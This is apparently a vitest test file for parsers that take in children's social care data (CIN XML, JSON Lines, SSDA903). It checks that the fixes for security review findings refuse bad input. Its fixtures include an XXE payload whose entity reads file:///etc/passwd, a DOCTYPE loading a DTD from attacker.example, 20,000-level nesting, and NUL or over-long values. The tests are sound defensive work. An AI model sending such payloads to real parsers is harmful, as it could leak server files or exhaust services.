/**
 * Security review findings L2, L3 and L7 at the parsers: each test sends what the reviewers sent
 * (a DOCTYPE with an entity, a <Child> nested 20,000 levels, values the database refuses) and
 * checks it is refused with a reason naming it, while everything valid around it is kept.
 */
import { describe, expect, it } from 'vitest';
import { MAX_CHILD_DEPTH, parseCinXml } from './cin.js';
import { parseJsonl } from './jsonl.js';
import { storable } from './read.js';
import { newSsda903Context, parseSsda903Table } from './ssda903.js';
import { NUL_REASON, storableProblems } from './storable.js';
import type { IntakeItem } from './types.js';
import { readXml, XmlSyntaxError } from './xml.js';
import { chunks, collect } from '../../test/streams.js';

/** Collects what a parser yields before it stops, and the error it stopped with (if any). */
async function collectUntilError<T>(items: AsyncIterable<T>): Promise<{ items: T[]; error: unknown }> {
  const out: T[] = [];
  try {
    for await (const x of items) out.push(x);
  } catch (error) {
    return { items: out, error };
  }
  return { items: out, error: null };
}

const HEADER = '<Header><Source><LEA>201</LEA></Source></Header>';
const child = (id: string, inner = '', referral = '<CINdetails><CINreferralDate>2021-05-01</CINreferralDate><ReferralSource>1A</ReferralSource></CINdetails>') =>
  `<Child><ChildIdentifiers><LAchildID>${id}</LAchildID><PersonBirthDate>2012-01-02</PersonBirthDate></ChildIdentifiers>${inner}${referral}</Child>`;
const census = (...children: string[]) => `<?xml version="1.0" encoding="UTF-8"?>\n<Message>${HEADER}<Children>${children.join('\n')}</Children></Message>`;
const accepted = (items: IntakeItem[]) => items.filter((i) => i.record).map((i) => i.recordId);

describe('L7: a DOCTYPE is refused, naming it', () => {
  const xxe = '<?xml version="1.0"?>\n<!DOCTYPE Message [\n  <!ENTITY leak SYSTEM "file:///etc/passwd">\n]>\n<Message><Children><Child>&leak;</Child></Children></Message>';

  it('refuses a DOCTYPE with an internal subset and an external entity, at its line, whatever the chunk size', async () => {
    for (const size of [1, 4, 7, 64, 10_000]) {
      const { items, error } = await collectUntilError(readXml(chunks(xxe, size)));
      expect(items, `chunk ${size}`).toEqual([]);
      expect(error).toBeInstanceOf(XmlSyntaxError);
      expect((error as XmlSyntaxError).code).toBe('doctype_not_accepted');
      expect((error as XmlSyntaxError).line).toBe(2);
      expect((error as Error).message).toContain('The file has a DOCTYPE declaration at line 2');
      // Not the misleading "text outside the root element" that the internal subset's "]>" used to give.
      expect((error as Error).message).not.toMatch(/outside the root|Unknown entity/);
    }
  });

  it('refuses any DOCTYPE (external, plain, lower case), and other markup declarations by name', async () => {
    for (const doctype of ['<!DOCTYPE Message SYSTEM "http://attacker.example/x.dtd">', '<!DOCTYPE Message>', '<!doctype Message>']) {
      const { error } = await collectUntilError(readXml(chunks(`${doctype}<Message/>`, 3)));
      expect((error as XmlSyntaxError).code, doctype).toBe('doctype_not_accepted');
    }
    const { error } = await collectUntilError(readXml(chunks('<Message><!ENTITY a "b"></Message>', 5)));
    expect((error as XmlSyntaxError).code).toBe('declaration_not_accepted');
    expect((error as Error).message).toContain('(<!ENTITY) at line 1');
  });

  it('still reads comments and CDATA split across chunks', async () => {
    const xml = '<A><!-- a comment --><B><![CDATA[<raw> & more]]></B></A>';
    for (const size of [1, 2, 3, 5]) {
      const tokens = await collect(readXml(chunks(xml, size)));
      expect(tokens.filter((t) => t.kind === 'text').map((t) => (t as { text: string }).text), `chunk ${size}`).toEqual(['<raw> & more']);
    }
  });

  it('stops a CIN census with a file error naming the DOCTYPE, before reading any child', async () => {
    const { items, error } = await collectUntilError(parseCinXml(chunks(xxe.replace('&leak;', ''), 16)));
    expect(items).toEqual([]);
    expect(error).toMatchObject({ name: 'IntakeFileError', code: 'doctype_not_accepted' });
    expect((error as Error).message).toContain('DOCTYPE declaration at line 2');
  });
});

describe(`L2: a <Child> nested deeper than ${MAX_CHILD_DEPTH} levels is refused on its own`, () => {
  it('refuses a child nested 20,000 levels with a clear reason and keeps the children before and after it', async () => {
    const deep = `${'<X>'.repeat(20_000)}${'</X>'.repeat(20_000)}`;
    const xml = census(child('BEFORE1'), child('DEEP1', deep), child('AFTER1'));
    const items = await collect(parseCinXml(chunks(xml, 4096)));
    expect(accepted(items)).toEqual(['child/BEFORE1', 'BEFORE1/cin/2021-05-01/referral', 'child/AFTER1', 'AFTER1/cin/2021-05-01/referral']);
    const refused = items.filter((i) => !i.record);
    expect(refused).toHaveLength(1);
    expect(refused[0]).toMatchObject({ table: 'child', row: 3, ref: 'Child 2', recordId: 'child/DEEP1' });
    expect(refused[0]!.errors).toEqual([{ field: 'Child', reason: `nests elements more than ${MAX_CHILD_DEPTH} levels deep (from line 3), far deeper than a census child, so it was not imported` }]);
  });

  it('reads a child at the limit as before', async () => {
    // <Child> is level 1, so MAX_CHILD_DEPTH - 1 further levels are allowed.
    const atLimit = `${'<X>'.repeat(MAX_CHILD_DEPTH - 1)}${'</X>'.repeat(MAX_CHILD_DEPTH - 1)}`;
    const items = await collect(parseCinXml(chunks(census(child('EDGE1', atLimit)), 100)));
    expect(accepted(items)).toEqual(['child/EDGE1', 'EDGE1/cin/2021-05-01/referral']);
  });
});

describe('L3: values the database refuses are named with their field and row', () => {
  it('JSON Lines: a NUL character (\\u0000) is refused naming the field; the other lines are kept', async () => {
    const record = (id: string, summary: string, given = 'Ann') => JSON.stringify({
      organisation: '6f1d3a8e-0000-4000-8000-000000000001', sourceSystem: 'Niche', recordId: id,
      person: { recordId: `P-${id}`, givenNames: given, familyName: 'Example', dateOfBirth: '2012-01-02' },
      event: { code: 'missing_episode', occurredAt: '2026-01-02', summary },
    });
    const text = [record('R1', 'Fine'), record('R2', 'Bad\u0000summary'), record('R3', 'Fine', 'A\u0000nn'), record('R4', 'Fine')].join('\n');
    const items = await collect(parseJsonl(chunks(text, 50)));
    expect(items.map((i) => [i.row, i.record ? 'kept' : i.errors])).toEqual([
      [1, 'kept'],
      [2, [{ field: 'event.summary', reason: NUL_REASON }]],
      [3, [{ field: 'person.givenNames', reason: NUL_REASON }]],
      [4, 'kept'],
    ]);
  });

  it('CIN: an over-long LAchildID, an over-long code made into the summary, and a NUL (literal or &#0;) are each refused naming the element', async () => {
    const longSource = 'Z'.repeat(600);
    const xml = census(
      child('OK1'),
      child('L'.repeat(150)),
      child('LONGSRC1', '', `<CINdetails><CINreferralDate>2021-05-01</CINreferralDate><ReferralSource>${longSource}</ReferralSource></CINdetails>`),
      child('NUL1', '<ChildCharacteristics><Ethnicity>WB\u0000RI</Ethnicity></ChildCharacteristics>'),
      child('NUL2', '<ChildCharacteristics><Ethnicity>WB&#0;RI</Ethnicity></ChildCharacteristics>'),
      child('OK2'),
    );
    const items = await collect(parseCinXml(chunks(xml, 512)));
    expect(accepted(items)).toEqual(['child/OK1', 'OK1/cin/2021-05-01/referral', 'child/LONGSRC1', 'child/OK2', 'OK2/cin/2021-05-01/referral']);
    const refused = items.filter((i) => !i.record).map((i) => ({ table: i.table, row: i.row, errors: i.errors }));
    expect(refused).toEqual([
      { table: 'child', row: 3, errors: [{ field: 'LAchildID', reason: 'is longer than 100 characters, so the records built from it cannot be stored' }] },
      { table: 'referral', row: 4, errors: [{ field: 'ReferralSource', reason: 'is longer than 500 characters, the most that can be stored' }] },
      { table: 'child', row: 5, errors: [{ field: 'Child.ChildCharacteristics.Ethnicity (line 5)', reason: NUL_REASON }] },
      { table: 'child', row: 6, errors: [{ field: 'Child.ChildCharacteristics.Ethnicity (line 6)', reason: NUL_REASON }] },
    ]);
  });

  it('CIN: an over-long LEA in the header is named on each record it would have been stored with', async () => {
    const xml = census(child('OK1')).replace('<LEA>201</LEA>', `<LEA>${'9'.repeat(300)}</LEA>`);
    const items = await collect(parseCinXml(chunks(xml, 512)));
    expect(items.map((i) => i.errors)).toEqual([
      [{ field: 'Header.Source.LEA', reason: 'is longer than 200 characters, the most that can be stored' }],
      [{ field: 'Child', reason: 'the child\'s own record was rejected (see line 2)' }],
    ]);
  });

  it('SSDA903: a NUL names its column, an over-long CHILD is refused; the other rows are kept', async () => {
    const ctx = newSsda903Context();
    const text = `CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n900001,1,14/03/2010,WBRI,UN1,,\n900002,1,14/03/2010,WB\u0000RI,UN1,,\n${'9'.repeat(101)},1,14/03/2010,WBRI,UN1,,\n900003,2,01/01/2011,WBRI,UN1,,\n`;
    const items = await collect(parseSsda903Table(chunks(text, 16), ctx));
    expect(items.map((i) => [i.row, i.record ? 'kept' : i.errors])).toEqual([
      [2, 'kept'],
      [3, [{ field: 'ETHNIC', reason: NUL_REASON }]],
      [4, [{ field: 'CHILD', reason: 'is longer than 100 characters, so the records built from it cannot be stored' }]],
      [5, 'kept'],
    ]);
  });

  it('the last check before the database refuses what a parser let through, and makes the row itself storable', () => {
    const item: IntakeItem = {
      table: 'records', row: 7, recordId: 'R\u00007', errors: [], warnings: [],
      record: {
        organisationId: null, sourceSystem: 'S'.repeat(201), recordId: 'R7', role: 'subject', otherPeople: [],
        person: { recordId: 'P7', givenNames: null, familyName: 'X\u0000', otherNames: [], dateOfBirth: null, sex: 'not_known', ethnicity: null, identifiers: [], postcode: null, addressLine: null, borough: null },
        event: null,
      },
    };
    expect(storableProblems(item.record!).map((p) => p.field)).toEqual(['sourceSystem', 'person.familyName']);
    const checked = storable(item);
    expect(checked.record).toBeNull();
    expect(checked.recordId).toBe('R\\07');
    expect(checked.errors).toEqual([
      { field: 'sourceSystem', reason: 'is longer than 200 characters, the most that can be stored' },
      { field: 'person.familyName', reason: NUL_REASON },
    ]);
    // A storable record passes through unchanged.
    const fine = { ...item, recordId: 'R7', record: { ...item.record!, sourceSystem: 'S', person: { ...item.record!.person, familyName: 'X' } } };
    expect(storable(fine)).toEqual(fine);
  });
});
